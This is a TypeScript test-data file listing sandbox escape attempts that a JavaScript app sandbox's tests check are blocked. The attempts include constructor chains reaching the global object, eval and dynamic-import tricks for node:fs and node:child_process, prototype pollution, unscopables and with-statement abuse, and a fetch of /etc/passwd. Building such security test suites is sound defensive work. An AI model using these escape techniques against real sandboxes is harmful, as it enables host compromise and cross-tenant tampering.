/**
 * The escape corpus: attempts by user code to reach the host (the worker's global scope, the
 * engine, the platform) or to change something another app or the host can see. Plain data,
 * so the Node tests (escapeCorpus.test.ts) and the Chromium run (e2e/escapeCorpus.spec.ts) share it.
 *
 * Every attempt runs in an app whose entities are `Input1` (input), `Text1` (text), `Query1`
 * (query with rows `[{ id: 1, name: 'Ada' }]`) and `JSObject1` (`{ count: 1, items: [1], total() }`).
 * The test asserts for each one, whether it throws or returns: no host object is reachable from
 * what it returns; no host intrinsic, host global, host-visible value or other app changed; and
 * when `expect` is given, the returned value (as plain data) equals it.
 */
export interface EscapeAttempt {
  id: string;
  category: 'constructor' | 'eval' | 'import' | 'pollution' | 'unscopables' | 'with' | 'endowment' | 'timer' | 'fetch' | 'globals' | 'platform' | 'stack' | 'scope' | 'data';
  /** `binding`: `code` is an expression evaluated as a data field. `handler`: the body of an async event handler; its `return` value is checked. */
  where: 'binding' | 'handler';
  code: string;
  /** The exact plain result when the attempt is expected to complete. */
  expect?: unknown;
}

/** Names of the worker's (and Node's) globals that must be unreachable by name. */
export const hostGlobalNames = [
  'self', 'window', 'document', 'postMessage', 'importScripts', 'localStorage', 'sessionStorage', 'indexedDB',
  'XMLHttpRequest', 'WebSocket', 'BroadcastChannel', 'caches', 'navigator', 'location', 'close', 'onmessage',
  'setTimeout', 'clearTimeout', 'queueMicrotask', 'performance', 'crypto', 'SharedArrayBuffer', 'Atomics', 'WebAssembly',
  'process', 'require', 'module', 'global', 'Buffer', 'console',
  // Platform constructors and functions of a worker: none is endowed, so none may be visible.
  'Worker', 'SharedWorker', 'MessageChannel', 'MessagePort', 'Blob', 'File', 'FileReader', 'URL', 'URLSearchParams',
  'DOMException', 'Event', 'EventTarget', 'CustomEvent', 'AbortController', 'Headers', 'Request', 'Response', 'FormData',
  'ReadableStream', 'structuredClone', 'atob', 'btoa', 'reportError', 'addEventListener', 'dispatchEvent', 'EventSource',
  'Notification', 'OffscreenCanvas', 'createImageBitmap', 'isSecureContext', 'origin', 'crossOriginIsolated', 'scheduler',
] as const;

const typeofAll = `[${hostGlobalNames.map((n) => `typeof ${n}`).join(', ')}]`;
const allUndefined = hostGlobalNames.map(() => 'undefined');
/** Tries `f()`; returns 'threw' when it throws, else the typeof of the global-ish result's postMessage/process. */
const probe = (expr: string) => `(() => { try { const g = ${expr}; return [typeof g?.postMessage, typeof g?.process, typeof g?.importScripts, typeof g?.document]; } catch (e) { return 'threw'; } })()`;
const fourUndefined = ['undefined', 'undefined', 'undefined', 'undefined'];
const attempt = (expr: string) => `(() => { try { return ${expr}; } catch (e) { return 'threw'; } })()`;
/** A handler that fetches `url` and says whether the runtime refused the scheme before any request. */
const fetchScheme = (url: string) => `try { await fetch(${JSON.stringify(url)}); return 'fetched'; } catch (e) { return String(e.message).includes('only http and https') ? 'refused' : 'failed'; }`;
/** A handler whose fetch goes through (or fails on the network); the test checks what the host was asked to send. */
const fetchWith = (init: string) => `try { await fetch('http://127.0.0.1:9/x', ${init}); } catch (e) { /* no network in the corpus */ } return 'sent';`;

export const escapeCorpus: readonly EscapeAttempt[] = [
  // Constructor chains of every function kind, from intrinsics and from endowments.
  { id: 'object-constructor-constructor', category: 'constructor', where: 'binding', code: probe("({}).constructor.constructor('return this')()") },
  { id: 'function-constructor', category: 'constructor', where: 'binding', code: probe("(function () {}).constructor('return this')()") },
  { id: 'arrow-constructor', category: 'constructor', where: 'binding', code: probe("(() => 1).constructor('return this')()") },
  { id: 'async-function-constructor', category: 'constructor', where: 'binding', code: attempt("(async function () {}).constructor('return this')") },
  { id: 'generator-function-constructor', category: 'constructor', where: 'binding', code: attempt("(function* () {}).constructor('return this')") },
  { id: 'async-generator-function-constructor', category: 'constructor', where: 'binding', code: attempt("(async function* () {}).constructor('return this')") },
  { id: 'async-function-prototype-constructor', category: 'constructor', where: 'binding', code: attempt("Object.getPrototypeOf(async function () {}).constructor('return this')") },
  { id: 'generator-prototype-constructor', category: 'constructor', where: 'binding', code: attempt("Object.getPrototypeOf(function* () {}).constructor('return this')") },
  { id: 'async-generator-prototype-constructor', category: 'constructor', where: 'binding', code: attempt("Object.getPrototypeOf(async function* () {}).constructor('return this')") },
  { id: 'typed-array-constructor', category: 'constructor', where: 'binding', code: probe("Object.getPrototypeOf(Uint8Array).constructor('return this')()") },
  { id: 'class-constructor', category: 'constructor', where: 'binding', code: probe("(class {}).constructor('return this')()") },
  { id: 'bound-method-constructor', category: 'constructor', where: 'binding', code: probe("[].map.bind([]).constructor('return this')()") },
  { id: 'promise-constructor-chain', category: 'constructor', where: 'binding', code: probe("Promise.constructor('return this')()") },
  { id: 'symbol-constructor-chain', category: 'constructor', where: 'binding', code: probe("Symbol.constructor.constructor('return this')()") },
  { id: 'date-endowment-constructor', category: 'constructor', where: 'binding', code: probe("Date.constructor('return this')()") },
  { id: 'math-endowment-constructor', category: 'constructor', where: 'binding', code: probe("Math.max.constructor('return this')()") },
  { id: 'fetch-endowment-constructor', category: 'constructor', where: 'binding', code: probe("fetch.constructor('return this')()") },
  { id: 'storeValue-constructor-constructor', category: 'constructor', where: 'binding', code: probe("storeValue.constructor.constructor('return this')()") },
  { id: 'setter-constructor', category: 'constructor', where: 'binding', code: probe("Input1.setValue.constructor('return this')()") },
  { id: 'getter-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor(Input1, 'text').get.constructor('return this')()") },
  { id: 'query-run-constructor', category: 'constructor', where: 'binding', code: probe("Query1.run.constructor('return this')()") },
  { id: 'js-object-function-constructor', category: 'constructor', where: 'binding', code: probe("JSObject1.total.constructor('return this')()") },
  { id: 'cordon-getter-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor(cordon, 'store').get.constructor('return this')()") },
  { id: 'reflect-construct-function', category: 'constructor', where: 'binding', code: probe("Reflect.construct(Function, ['return this'])()") },
  { id: 'call-call-function', category: 'constructor', where: 'binding', code: probe("Function.prototype.call.call(Function, null, 'return this')()") },
  { id: 'handler-async-constructor', category: 'constructor', where: 'handler', code: "try { const F = (async () => {}).constructor; return await F('return this')(); } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'fetch-result-constructor', category: 'constructor', where: 'handler', code: "const p = fetch('file:///x').catch((e) => e); const e = await p; try { return e.constructor.constructor('return this')(); } catch (x) { return 'threw'; }", expect: 'threw' },

  // eval and dynamic import in every form.
  { id: 'function-global', category: 'eval', where: 'binding', code: probe("Function('return this')()"), expect: fourUndefined },
  { id: 'new-function-globalThis', category: 'eval', where: 'binding', code: probe("new Function('return globalThis')()"), expect: fourUndefined },
  { id: 'indirect-eval', category: 'eval', where: 'binding', code: probe("(0, eval)('this')"), expect: fourUndefined },
  { id: 'aliased-eval', category: 'eval', where: 'binding', code: "(() => { const e = eval; const g = e('globalThis'); return [g === globalThis, typeof g.postMessage]; })()", expect: [true, 'undefined'] },
  { id: 'globalThis-eval', category: 'eval', where: 'binding', code: probe("globalThis.eval('this')"), expect: fourUndefined },
  { id: 'direct-eval', category: 'eval', where: 'binding', code: "eval('this')" },
  { id: 'direct-eval-in-handler', category: 'eval', where: 'handler', code: "return eval('typeof postMessage');" },
  { id: 'function-this-is-not-host', category: 'eval', where: 'binding', code: "(() => { const g = Function('return this')(); return g === undefined || g === globalThis; })()", expect: true },
  { id: 'eval-returns-compartment', category: 'eval', where: 'binding', code: "(0, eval)('this') === globalThis", expect: true },
  { id: 'nested-compartment', category: 'eval', where: 'binding', code: probe("new Compartment({ __options__: true }).evaluate('globalThis')"), expect: fourUndefined },
  { id: 'nested-compartment-function', category: 'eval', where: 'binding', code: probe("new Compartment({ __options__: true }).globalThis.Function('return this')()"), expect: fourUndefined },
  { id: 'lockdown-again', category: 'eval', where: 'binding', code: attempt("(lockdown(), 'locked')"), expect: 'threw' },
  { id: 'import-call', category: 'import', where: 'handler', code: "return await import('node:fs');" },
  { id: 'import-comment-call', category: 'import', where: 'handler', code: "return await import/**/('node:fs');" },
  { id: 'import-newline-call', category: 'import', where: 'handler', code: "return await import\n('node:child_process');" },
  { id: 'import-spread', category: 'import', where: 'binding', code: "({ ...import('node:fs') })" },
  { id: 'import-meta', category: 'import', where: 'binding', code: 'import.meta' },
  { id: 'html-comment', category: 'eval', where: 'binding', code: '1 <!-- 2' },
  { id: 'function-body-injection', category: 'eval', where: 'binding', code: probe("Function('}, function () { return this')") },

  // Prototype pollution: intrinsics are shared by every compartment, so they must be frozen.
  { id: 'object-prototype-assign', category: 'pollution', where: 'binding', code: attempt("(Object.prototype.polluted = 'yes')"), expect: 'threw' },
  { id: 'object-prototype-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Object.prototype, 'polluted', { value: 'yes' })"), expect: 'threw' },
  { id: 'proto-accessor-assign', category: 'pollution', where: 'binding', code: attempt("(({}).__proto__.polluted = 'yes')"), expect: 'threw' },
  { id: 'object-prototype-setPrototypeOf', category: 'pollution', where: 'binding', code: attempt("Object.setPrototypeOf(Object.prototype, { polluted: 'yes' })"), expect: 'threw' },
  { id: 'array-prototype-push', category: 'pollution', where: 'binding', code: attempt('(Array.prototype.push = () => 0)'), expect: 'threw' },
  { id: 'array-prototype-iterator', category: 'pollution', where: 'binding', code: attempt('(Array.prototype[Symbol.iterator] = function* () {})'), expect: 'threw' },
  { id: 'function-prototype-call', category: 'pollution', where: 'binding', code: attempt('(Function.prototype.call = () => 1)'), expect: 'threw' },
  { id: 'promise-prototype-then', category: 'pollution', where: 'binding', code: attempt('(Promise.prototype.then = () => 1)'), expect: 'threw' },
  { id: 'string-prototype-includes', category: 'pollution', where: 'binding', code: attempt('(String.prototype.includes = () => true)'), expect: 'threw' },
  { id: 'error-prototype-toString', category: 'pollution', where: 'binding', code: attempt("(Error.prototype.toString = () => 'x')"), expect: 'threw' },
  { id: 'json-parse-replace', category: 'pollution', where: 'binding', code: attempt('(JSON.parse = () => 1)'), expect: 'threw' },
  { id: 'math-random-replace', category: 'pollution', where: 'binding', code: attempt('(Math.random = () => 4)'), expect: 'threw' },
  { id: 'date-now-replace', category: 'pollution', where: 'binding', code: attempt('(Date.now = () => 0)'), expect: 'threw' },
  { id: 'json-proto-key', category: 'pollution', where: 'handler', code: "await storeValue('p', JSON.parse('{\"__proto__\": {\"polluted\": \"yes\"}}'), false); return ({}).polluted;", expect: undefined },
  { id: 'override-mistake-still-works', category: 'pollution', where: 'binding', code: "(() => { const o = {}; o.toString = () => 'own'; return String(o); })()", expect: 'own' },

  // Endowments: entities, framework functions and the cordon global cannot be changed or used as a way out.
  { id: 'entity-assign', category: 'endowment', where: 'binding', code: attempt("(Input1.text = 'evil')"), expect: 'threw' },
  { id: 'entity-delete', category: 'endowment', where: 'binding', code: attempt('delete Input1.text'), expect: 'threw' },
  { id: 'entity-define', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(Input1, 'text', { value: 'evil' })"), expect: 'threw' },
  { id: 'entity-setPrototypeOf', category: 'endowment', where: 'binding', code: attempt('Object.setPrototypeOf(Input1, null)'), expect: 'threw' },
  { id: 'entity-proto-assign', category: 'endowment', where: 'binding', code: attempt("(Input1.__proto__.evil = 'yes')"), expect: 'threw' },
  { id: 'query-data-push', category: 'endowment', where: 'handler', code: "try { Query1.data.push({ id: 666 }); return 'pushed'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'query-row-mutate', category: 'endowment', where: 'handler', code: "try { Query1.data[0].name = 'evil'; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'store-mutate', category: 'endowment', where: 'handler', code: "try { cordon.store.token = 'evil'; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'user-role-mutate', category: 'endowment', where: 'handler', code: "try { cordon.user.role = 'administrator'; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'framework-function-property', category: 'endowment', where: 'binding', code: attempt("(storeValue.evil = 'yes')"), expect: 'threw' },
  { id: 'getter-function-property', category: 'endowment', where: 'binding', code: attempt("(Object.getOwnPropertyDescriptor(cordon, 'store').get.evil = 1)"), expect: 'threw' },
  { id: 'global-replace-framework', category: 'endowment', where: 'binding', code: attempt('(globalThis.storeValue = () => 1)'), expect: 'threw' },
  { id: 'global-replace-entity', category: 'endowment', where: 'binding', code: attempt('(globalThis.Input1 = 1)'), expect: 'threw' },
  { id: 'global-add', category: 'endowment', where: 'binding', code: attempt("(globalThis.leaked = 'yes')"), expect: 'threw' },
  { id: 'global-unscopables', category: 'endowment', where: 'binding', code: attempt('(globalThis[Symbol.unscopables] = { Input1: true })'), expect: 'threw' },
  { id: 'getter-on-stored-value', category: 'endowment', where: 'handler', code: "await storeValue('g', { get x() { return globalThis; }, y: 1, f() {} }, false); return cordon.store.g;", expect: { y: 1 } },
  { id: 'getter-on-query-params', category: 'endowment', where: 'handler', code: 'return await Query1.run({ get limit() { return globalThis; } });', expect: [{ id: 1, name: 'Ada' }] },
  { id: 'proxy-to-storeValue', category: 'endowment', where: 'handler', code: "try { await storeValue('p', new Proxy({}, { ownKeys() { throw new Error('trap'); } }), false); return 'stored'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'thrown-getter-object', category: 'endowment', where: 'handler', code: 'throw { get message() { return globalThis; } };' },
  { id: 'setter-this-swap', category: 'endowment', where: 'handler', code: "await Input1.setValue.call(Query1, 'x'); return Input1.text;", expect: 'x' },
  { id: 'js-function-this-swap', category: 'endowment', where: 'binding', code: 'JSObject1.total.call({ count: 100 })', expect: 10 },

  // Timers and fetch: no string evaluation, bounded resources, arguments coerced.
  { id: 'interval-string-code', category: 'eval', where: 'handler', code: "try { setInterval('globalThis.leaked = 1', 10, 's'); return 'scheduled'; } catch (e) { return 'threw'; }", expect: 'threw' },
  { id: 'interval-flood', category: 'endowment', where: 'handler', code: "try { for (let i = 0; i < 1000; i++) setInterval(() => 0, 100000, 'f' + i); return 'flooded'; } catch (e) { return 'threw'; } finally { for (let i = 0; i < 1000; i++) clearInterval('f' + i); }", expect: 'threw' },
  { id: 'fetch-url-object', category: 'endowment', where: 'handler', code: "try { const r = await fetch({ toString() { return 'file:///etc/passwd'; } }); return r.url.startsWith('file:') ? 'reached' : 'not file'; } catch (e) { return String(e.message).includes('passwd') ? 'reached' : 'not file'; }", expect: 'not file' },
  { id: 'fetch-init-getters', category: 'endowment', where: 'handler', code: "try { await fetch('http://127.0.0.1/', { get method() { return globalThis; }, headers: { get x() { throw new Error('getter ran'); } } }); } catch (e) { return e.message.includes('getter ran') ? 'getter ran' : 'no getter'; }", expect: 'no getter' },
  { id: 'query-param-proto-key', category: 'pollution', where: 'handler', code: "await Query1.run(JSON.parse('{\"__proto__\": {\"polluted\": 1}}')); return ({}).polluted;", expect: undefined },

  // Worker and Node globals are unreachable by name and by enumeration.
  { id: 'typeof-host-globals', category: 'globals', where: 'binding', code: typeofAll, expect: allUndefined },
  { id: 'typeof-host-globals-handler', category: 'globals', where: 'handler', code: `return ${typeofAll};`, expect: allUndefined },
  { id: 'global-own-names', category: 'globals', where: 'binding', code: `${JSON.stringify(hostGlobalNames)}.filter((n) => Object.getOwnPropertyNames(globalThis).includes(n))`, expect: [] },
  { id: 'globalThis-self-reference', category: 'globals', where: 'binding', code: '[globalThis === globalThis.globalThis, typeof globalThis.self]', expect: [true, 'undefined'] },
  { id: 'sloppy-this', category: 'scope', where: 'binding', code: '(function () { return this; })()', expect: undefined },
  { id: 'binding-this', category: 'scope', where: 'binding', code: 'this', expect: undefined },
  { id: 'with-statement', category: 'scope', where: 'handler', code: 'with (Input1) { return text; }' },
  { id: 'arguments-callee', category: 'scope', where: 'binding', code: attempt('(function () { return arguments.callee; })()'), expect: 'threw' },
  { id: 'function-caller', category: 'scope', where: 'binding', code: attempt('(function f() { return f.caller; })()'), expect: undefined },
  { id: 'interval-callback-id', category: 'scope', where: 'handler', code: "const id = setInterval(function () { return this; }, 1000, 't'); clearInterval(id); return id;", expect: 't' },

  // Error stacks: no host frames, no CallSite objects.
  { id: 'error-stack', category: 'stack', where: 'binding', code: "(() => { try { null.x; } catch (e) { return String(e.stack ?? ''); } })()" },
  { id: 'new-error-stack', category: 'stack', where: 'binding', code: "String(new Error('x').stack ?? '')" },
  { id: 'prepare-stack-trace', category: 'stack', where: 'binding', code: "(() => { try { Error.prepareStackTrace = (e, frames) => frames; } catch (x) {} const s = new Error('x').stack; return typeof s === 'string' ? 'string' : s; })()" },
  { id: 'capture-stack-trace', category: 'stack', where: 'binding', code: "(() => { const o = {}; try { Error.captureStackTrace(o); } catch (e) { return 'threw'; } return o.stack ?? 'none'; })()" },
  { id: 'stack-getter-on-host-error', category: 'stack', where: 'handler', code: "try { await fetch('file:///x'); } catch (e) { return String(e.stack ?? ''); }" },
  { id: 'error-stack-descriptor', category: 'stack', where: 'binding', code: "(() => { const d = Object.getOwnPropertyDescriptor(Error.prototype, 'stack'); return d && d.get ? String(d.get.call(new Error('x')) ?? '') : 'none'; })()" },
  { id: 'framework-error-stack', category: 'stack', where: 'handler', code: "try { await Query1.run({}, 1); await fetch(1, { method: { toString() { throw new Error('m'); } } }); } catch (e) { return String(e.stack ?? ''); }" },

  // Data handed out is data: time and randomness work, host-shaped data does not leak.
  { id: 'date-works', category: 'data', where: 'binding', code: 'typeof Date.now() === "number" && new Date(0).toISOString()', expect: '1970-01-01T00:00:00.000Z' },
  { id: 'random-works', category: 'data', where: 'binding', code: '(() => { const r = Math.random(); return r >= 0 && r < 1; })()', expect: true },
  { id: 'query-data-is-plain', category: 'data', where: 'handler', code: 'await Query1.run(); return [Object.getPrototypeOf(Query1.data) === Array.prototype, Object.isFrozen(Query1.data), Object.getPrototypeOf(Query1.data[0]) === Object.prototype];', expect: [true, true, true] },

  // More constructor chains: every other kind of function user code can hold.
  { id: 'bound-function-constructor', category: 'constructor', where: 'binding', code: probe("(function () {}).bind(null).constructor('return this')()") },
  { id: 'bound-arrow-constructor', category: 'constructor', where: 'binding', code: probe("(() => 0).bind(null).constructor('return this')()") },
  { id: 'object-method-constructor', category: 'constructor', where: 'binding', code: probe("({ m() {} }).m.constructor('return this')()") },
  { id: 'class-method-constructor', category: 'constructor', where: 'binding', code: probe("(class { m() {} }).prototype.m.constructor('return this')()") },
  { id: 'class-static-this-constructor', category: 'constructor', where: 'binding', code: probe("(class { static f = this.constructor; }).f('return this')()") },
  { id: 'getter-literal-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor({ get x() { return 1; } }, 'x').get.constructor('return this')()") },
  { id: 'setter-literal-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor({ set x(v) {} }, 'x').set.constructor('return this')()") },
  { id: 'async-arrow-constructor', category: 'constructor', where: 'binding', code: attempt("(async () => {}).constructor('return this')"), expect: 'threw' },
  { id: 'async-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ async m() {} }).m.constructor('return this')"), expect: 'threw' },
  { id: 'generator-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ *g() {} }).g.constructor('return this')"), expect: 'threw' },
  { id: 'async-generator-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ async *g() {} }).g.constructor('return this')"), expect: 'threw' },
  { id: 'function-prototype-constructor', category: 'constructor', where: 'binding', code: attempt("Reflect.getPrototypeOf(Function).constructor('return this')"), expect: 'threw' },
  { id: 'error-proto-constructor', category: 'constructor', where: 'binding', code: probe("Error.__proto__.constructor('return this')()") },
  { id: 'error-prototype-constructor-chain', category: 'constructor', where: 'binding', code: probe("Error.prototype.constructor.constructor('return this')()") },
  { id: 'iterator-constructor-chain', category: 'constructor', where: 'binding', code: probe("Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]())).constructor.constructor('return this')()") },
  { id: 'proxy-constructor-chain', category: 'constructor', where: 'binding', code: probe("new Proxy({}, {}).constructor.constructor('return this')()") },
  { id: 'cordon-constructor-chain', category: 'constructor', where: 'binding', code: probe("cordon.constructor.constructor('return this')()") },
  { id: 'entity-constructor-chain', category: 'constructor', where: 'binding', code: probe("Input1.constructor.constructor('return this')()") },
  { id: 'query-data-constructor-chain', category: 'constructor', where: 'binding', code: probe("Query1.data.constructor.constructor('return this')()") },
  { id: 'showAlert-bound-constructor', category: 'constructor', where: 'binding', code: probe("showAlert.bind(null).constructor('return this')()") },
  { id: 'store-value-constructor-chain', category: 'constructor', where: 'handler', code: "await storeValue('o', { a: 1 }, false); try { return typeof cordon.store.o.constructor.constructor('return this')().postMessage; } catch (e) { return 'threw'; }" },

  // More eval and import() forms: strings built at run time, templates, nested evaluators.
  { id: 'function-import-concat', category: 'import', where: 'binding', code: attempt("Function('return imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
  { id: 'eval-import-concat', category: 'import', where: 'binding', code: attempt("(0, eval)('imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
  { id: 'compartment-import-concat', category: 'import', where: 'binding', code: attempt("new Compartment({ __options__: true }).evaluate('imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
  { id: 'function-import-string', category: 'import', where: 'binding', code: "Function('import(\"x\")')" },
  { id: 'template-dynamic-import', category: 'import', where: 'binding', code: '`${import("node:fs")}`' },
  { id: 'template-import-in-handler', category: 'import', where: 'handler', code: 'return `${await import("node:os")}`;' },
  { id: 'function-direct-eval-concat', category: 'eval', where: 'binding', code: probe("Function('return ev' + 'al(\"this\")')()") },
  { id: 'function-sloppy-this', category: 'eval', where: 'binding', code: "Function('return (function () { return this; })()')()", expect: undefined },
  { id: 'eval-var-declaration', category: 'eval', where: 'binding', code: "(() => { (0, eval)('var leakedVar = 1'); return [typeof leakedVar, Object.getOwnPropertyNames(globalThis).includes('leakedVar')]; })()", expect: ['undefined', false] },
  { id: 'function-assign-undeclared', category: 'eval', where: 'binding', code: attempt("Function('leakedFn = 1')()"), expect: 'threw' },
  { id: 'eval-function-declaration-scope', category: 'eval', where: 'binding', code: "(() => { (0, eval)('function leakedFn() {}'); return typeof leakedFn; })()", expect: 'undefined' },
  { id: 'nested-compartment-endowed-global', category: 'eval', where: 'binding', code: "new Compartment({ __options__: true, globals: { g: globalThis } }).evaluate('typeof g.postMessage')", expect: 'undefined' },
  { id: 'nested-compartment-host-names', category: 'globals', where: 'binding', code: "new Compartment({ __options__: true }).evaluate('[typeof caches, typeof indexedDB, typeof self, typeof process]')", expect: ['undefined', 'undefined', 'undefined', 'undefined'] },
  { id: 'eval-navigator', category: 'globals', where: 'binding', code: "(0, eval)('typeof navigator')", expect: 'undefined' },
  { id: 'function-location', category: 'globals', where: 'binding', code: "Function('return typeof location')()", expect: 'undefined' },
  { id: 'function-self-importScripts', category: 'globals', where: 'binding', code: "Function('return typeof self + typeof globalThis.importScripts')()", expect: 'undefinedundefined' },

  // More prototype pollution: every shared prototype the issue names, and __proto__ in data.
  { id: 'symbol-prototype-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Symbol.prototype, 'polluted', { value: 1 })"), expect: 'threw' },
  { id: 'symbol-prototype-toString', category: 'pollution', where: 'binding', code: attempt("(Symbol.prototype.toString = () => 'x')"), expect: 'threw' },
  { id: 'promise-prototype-catch-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Promise.prototype, 'catch', { value: () => 1 })"), expect: 'threw' },
  { id: 'function-prototype-bind', category: 'pollution', where: 'binding', code: attempt('(Function.prototype.bind = () => 1)'), expect: 'threw' },
  { id: 'function-prototype-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Function.prototype, 'polluted', { value: 1 })"), expect: 'threw' },
  { id: 'array-prototype-map-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Array.prototype, 'map', { value: () => [] })"), expect: 'threw' },
  { id: 'array-proto-accessor', category: 'pollution', where: 'binding', code: attempt("([]).__proto__.polluted = 'yes'"), expect: 'threw' },
  { id: 'object-assign-object-prototype', category: 'pollution', where: 'binding', code: attempt('Object.assign(Object.prototype, { polluted: 1 })'), expect: 'threw' },
  { id: 'object-assign-json-proto', category: 'pollution', where: 'binding', code: "(() => { Object.assign({}, JSON.parse('{\"__proto__\": {\"polluted\": 1}}')); return ({}).polluted; })()", expect: undefined },
  { id: 'spread-json-proto', category: 'pollution', where: 'binding', code: "(() => { const o = { ...JSON.parse('{\"__proto__\": {\"polluted\": 1}}') }; return [({}).polluted, Object.getPrototypeOf(o) === Object.prototype]; })()", expect: [undefined, true] },
  { id: 'json-reviver-proto', category: 'pollution', where: 'binding', code: "(() => { JSON.parse('{\"a\":1}', function (k, v) { try { this.__proto__.polluted = 1; } catch (e) {} return v; }); return ({}).polluted; })()", expect: undefined },
  { id: 'delete-object-prototype-proto', category: 'pollution', where: 'binding', code: attempt('delete Object.prototype.__proto__'), expect: 'threw' },
  { id: 'iterator-prototype-next', category: 'pollution', where: 'binding', code: attempt('(Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true }))'), expect: 'threw' },
  { id: 'regexp-prototype-exec', category: 'pollution', where: 'binding', code: attempt('(RegExp.prototype.exec = () => null)'), expect: 'threw' },
  { id: 'typed-array-prototype-set', category: 'pollution', where: 'binding', code: attempt('(Object.getPrototypeOf(Uint8Array).prototype.set = () => 0)'), expect: 'threw' },
  { id: 'error-prototype-name', category: 'pollution', where: 'binding', code: attempt("(Error.prototype.name = 'Evil')"), expect: 'threw' },
  { id: 'endowed-math-mutate', category: 'pollution', where: 'binding', code: attempt('(Math.PI = 3)'), expect: 'threw' },
  { id: 'endowed-date-prototype', category: 'pollution', where: 'binding', code: attempt('(Date.prototype.getTime = () => 0)'), expect: 'threw' },
  { id: 'query-param-nested-proto', category: 'pollution', where: 'handler', code: "await Query1.run({ a: JSON.parse('{\"__proto__\": {\"polluted\": 1}}') }); return [({}).polluted, ({}).a];", expect: [undefined, undefined] },

  // Symbol.unscopables: the scope machinery of SES must not be steerable from user code.
  { id: 'unscopables-object-prototype', category: 'unscopables', where: 'binding', code: attempt('(Object.prototype[Symbol.unscopables] = { Input1: true })'), expect: 'threw' },
  { id: 'unscopables-array-mutate', category: 'unscopables', where: 'binding', code: attempt('(Array.prototype[Symbol.unscopables].map = false)'), expect: 'threw' },
  { id: 'unscopables-define-global', category: 'unscopables', where: 'binding', code: attempt('Object.defineProperty(globalThis, Symbol.unscopables, { value: {} })'), expect: 'threw' },
  { id: 'unscopables-on-entity', category: 'unscopables', where: 'binding', code: attempt('(Input1[Symbol.unscopables] = { text: true })'), expect: 'threw' },
  { id: 'unscopables-global-read', category: 'unscopables', where: 'binding', code: 'typeof globalThis[Symbol.unscopables]', expect: 'undefined' },

  // with-statement tricks, through the evaluators that allow sloppy code.
  { id: 'with-in-function', category: 'with', where: 'binding', code: attempt("Function('with ({}) { return typeof postMessage; }')()"), expect: 'threw' },
  { id: 'with-proxy-has-false', category: 'with', where: 'binding', code: attempt("Function('p', 'with (p) { return typeof postMessage; }')(new Proxy({}, { has: () => false }))"), expect: 'threw' },
  { id: 'with-proxy-has-true', category: 'with', where: 'binding', code: probe("Function('p', 'with (p) { return globalThis; }')(new Proxy({}, { has: () => true, get: () => undefined }))") },
  { id: 'with-unscopables-eval', category: 'with', where: 'binding', code: attempt("Function('o', 'with (o) { return typeof eval; }')({ [Symbol.unscopables]: { eval: true } })"), expect: 'threw' },
  { id: 'with-entity-scope', category: 'with', where: 'binding', code: attempt("Function('with (Input1) { return text; }')()"), expect: 'threw' },

  // Error stacks: the V8 hooks do nothing for user code.
  { id: 'prepare-stack-trace-callsites', category: 'stack', where: 'handler', code: "try { Error.prepareStackTrace = (e, s) => s.map((f) => typeof f.getThis); } catch (x) { /* frozen */ } return typeof new Error('x').stack;", expect: 'string' },
  { id: 'capture-stack-trace-function', category: 'stack', where: 'binding', code: "(() => { const o = {}; try { Error.captureStackTrace(o, Function); } catch (e) { return 'threw'; } return typeof o.stack === 'string' ? o.stack : typeof o.stack; })()" },
  { id: 'stack-trace-limit', category: 'stack', where: 'binding', code: "(() => { try { Error.stackTraceLimit = Infinity; } catch (e) { /* ignored */ } return String(new Error('x').stack ?? '').split('\\n').length < 50; })()", expect: true },
  { id: 'recursion-range-error', category: 'stack', where: 'binding', code: "(() => { const f = () => f(); try { f(); } catch (e) { return String(e.stack ?? ''); } })()" },
  { id: 'framework-error-shape', category: 'stack', where: 'binding', code: "(() => { try { storeValue('a', 1); } catch (e) { return [e instanceof Error, Object.getPrototypeOf(e) === Error.prototype]; } })()", expect: [true, true] },
  { id: 'fetch-error-shape', category: 'platform', where: 'handler', code: "try { await fetch('http://127.0.0.1:9/'); } catch (e) { return [e instanceof Error, e.constructor === Error, typeof DOMException]; }", expect: [true, true, 'undefined'] },
  { id: 'aggregate-error-errors', category: 'stack', where: 'handler', code: "try { await Promise.any([fetch('file:///x'), fetch('data:,x')]); return 'resolved'; } catch (e) { return e.errors.map((x) => Object.getPrototypeOf(x) === Error.prototype && String(x.stack ?? '') === ''); }", expect: [true, true] },

  // Getters on endowments: user code can hold them, but they lead nowhere.
  { id: 'entity-descriptors', category: 'endowment', where: 'binding', code: 'Object.keys(Object.getOwnPropertyDescriptors(Input1))' },
  { id: 'query-getter-this-swap', category: 'endowment', where: 'binding', code: "Object.getOwnPropertyDescriptor(Query1, 'data').get.call({ data: 'evil' }).length", expect: 0 },
  { id: 'cordon-getter-this-swap', category: 'endowment', where: 'binding', code: "Object.getOwnPropertyDescriptor(cordon, 'store').get.call(null).token", expect: 't' },
  { id: 'getter-caller', category: 'endowment', where: 'binding', code: attempt("Object.getOwnPropertyDescriptor(Input1, 'text').get.caller") },
  { id: 'store-define-getter', category: 'endowment', where: 'binding', code: attempt("cordon.store.__defineGetter__('token', () => 'evil')"), expect: 'threw' },

  // Mutation of endowments and of their prototypes.
